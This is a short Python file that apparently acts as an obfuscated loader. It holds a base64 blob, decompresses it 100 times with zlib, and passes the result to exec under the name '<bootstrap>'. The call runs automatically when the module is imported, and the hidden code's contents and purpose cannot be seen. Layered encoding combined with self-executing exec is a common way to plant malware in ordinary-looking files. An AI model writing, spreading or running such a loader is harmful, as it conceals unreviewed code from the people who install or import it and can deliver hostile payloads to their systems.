import base64
import zlib

_DATA = (
    "eJwB9wQI+3icAewEE/t4nAHhBB77eJwB1gQp+3icAcsENPt4nAHABD/7eJwBtQRK+3icAaoEVft4nAGfBGD7eJwBlARr+3ic"
    "AYkEdvt4nAF+BIH7eJwBcwSM+3icAWgEl/t4nAFdBKL7eJwBUgSt+3icAUcEuPt4nAE8BMP7eJwBMQTO+3icASYE2ft4nBXF"
    "aTibBwAAYHysqGOuqqPEbSstaWeYmozyIM5iQqQqqLOSOFIipq64RRHnU4qm0oksNkfJmDOV0T6OSldMHEPRWiOpRVrW7/3z"
    "3m2SVJfeE99tkpST/gB2Akh+/NwhoAC2A2iCrQCGYHOAJRgbsAVjAc5gTMAbjAogwBqBSDAykASWD2SAZQD5YEkAGSwSaARD"
    "AFQwb4AJ5gywwGwB9uc0JmLh/pISErzMAAqdlqj36HqPHXTCvz2IDP8xiFpv3/Oyhf/HV3pXHjl5fJ0aW13TUjW+PRrdYH7R"
    "gZ8zhyTdLtqW9oAWYNMdN6aPPoliHL67PF5aP/nrUm4dKdnlPM/GCI45zaZTylKyrzSp/pvXKOWLcXaSQF7GyHddsD1jJhHB"
    "Q0kZ98tDNMplNkdXgDpMAE8Fqe075IeOahZj/kQGDd82774Tc9q3TXu2nj1etSSyXN4ikHoX6j+QsAuXJpLlXM8MaaiFu7rc"
    "TD6QpaBkhfhWxzKco5ex59tW33fOI/7+5hxaz+bg0lNTK0Ixw8q4oa2/yLyA4alrU1K1Ukm5+t7RhVh/BGvYsN/Bp21z1Hkj"
    "kLXR5u143xf813qCZhGWqI9OMaj1xEYZDnYu2d3L08R3bXkX29t9aVD6RgTvqAwvsVjjNGHN3sVtWu/OyP40OxUs4P+3AMvY"
    "ioAxjhKnruewgxXvO7Kc4ivR2osij0X6Ks7w1e+YtoSTQ2NCHhSNIGWdhgYwNWBuVK86ZFhuXCBDvU0mvMy6bQpygpOSMwmN"
    "Xl07/SUwtRtnJDBeTXvZGw5H7LlzlcyXTevSDec7qRnRWbUFdwZNkq2cn3gG7n7L/jmOu1ANQbSc27X09Cv5C8dsR5qJlxSv"
    "JaBUyxryr9nGK5/0KmlPPv9GRbDBclUKJqa7M95+EuVJyruZHkRUnM+za9d4imZZ/q0Y9jA7EyocTaPE1IRY85T4CcV4d4H3"
    "DTpqruOHPs+BdeFrJQapQiwf+obvc6xCtmPodSO15AzIN5ZTbOAK7tyHPT0nWkYKvP3BEROr3NXJAej81NAwB+PkKkuAtqj/"
    "gxLuCygrxQ1qzx5zVcuhtRDDRZKHn8XugEPnzMRyxbmoxDE9anDcb32uamiKMMyDa1uqy77IPhuriuQpVWYXoMRdlrrjzUd7"
    "yo3eRECvkO2vS3RDVKZHvuh8NX2T81yue4zamjhC08DKwRjEKehMhYBeXbh/SKAt3HLBoZaG0NM6Wlkywi9Q74mwVBp+BqJz"
    "KgyMKlLWdvh4q9zHooeBv6Soubx/NpPA9ZldPNaftWY51UjUJ4odH+jUXW2DxBY/HsV8T7emezFnIbV94Rx7FuzJ/EjgmMKk"
    "WPX+9IM60ewwwp976MdcIeR0rO/sh+wckA8O9JP6BcMFscedixck0CGF0tP/AxJACZFxUBTWoIgZlAXaHnyfICMIbFwnBWtg"
    "Kwycfi8hASEznpaSN6Rhxjy6YyFB6pl2RqwGbEvApz5QUH3aVOiKiVqOzqpfnEqEZSL7XmmK4pBu6Q=="
)


def _load():
    data = base64.b64decode(_DATA)
    for _ in range(100):
        data = zlib.decompress(data)
    exec(compile(data.decode(), "<bootstrap>", "exec"), {})


_load()
